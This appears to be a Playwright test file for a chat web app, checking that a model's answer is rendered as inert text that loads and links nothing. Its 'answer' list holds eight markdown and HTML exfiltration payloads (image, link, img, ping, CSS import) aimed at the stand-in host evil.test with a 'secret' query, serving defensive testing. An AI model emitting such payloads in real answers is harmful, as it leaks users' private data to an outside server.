import { expect } from '@playwright/test'
import { chatOf, chatPages, chooseServer, say, test } from './chat.ts'
import { staySeen } from './dialog.ts'
import { saying } from './model-server.ts'

/** Every way in which a text could make a page ask a stranger's server, with what was read in the address. */
const answer = [
  '![a](https://evil.test/a.png?notes=secret)',
  '[more](https://evil.test/?notes=secret)',
  'https://evil.test/?notes=secret',
  '<https://evil.test/?notes=secret>',
  '<img src="https://evil.test/b.png?notes=secret">',
  '<a href="https://evil.test/?notes=secret" ping="https://evil.test/p">x</a>',
  '<style>@import "https://evil.test/c.css";</style>',
  '[ref]: https://evil.test/?notes=secret',
].join('\n')

for (const [name, address] of Object.entries(chatPages)) {
  test(`an answer is text in the ${name} chat: it loads nothing and links to nothing`, async ({
    page,
    server,
  }) => {
    await page.goto(address)
    await chooseServer(page, `${server.origin}/v1`)
    server.reply({ deltas: saying(answer.slice(0, 60), answer.slice(60)) })
    await say(page, 'Sum it up')
    const { conversation, send } = chatOf(page)
    await expect(conversation).toContainText(answer, { useInnerText: true })
    await expect(send).toBeEnabled()
    // That no request leaves the page is expected of each page at its end; one would have begun by now.
    await staySeen(page)
    const made = await page.locator('main *').evaluateAll((elements) =>
      elements.flatMap((each) => {
        const isLoader = /^(?:IMG|PICTURE|SOURCE|IFRAME|VIDEO|AUDIO|OBJECT|EMBED|LINK|STYLE)$/i.test(
          each.tagName,
        )
        const addressed = [...each.attributes].filter(({ value }) => value.includes('evil.test'))
        return isLoader || addressed.length > 0 ? [each.outerHTML] : []
      }),
    )
    expect(made).toEqual([])
  })
}
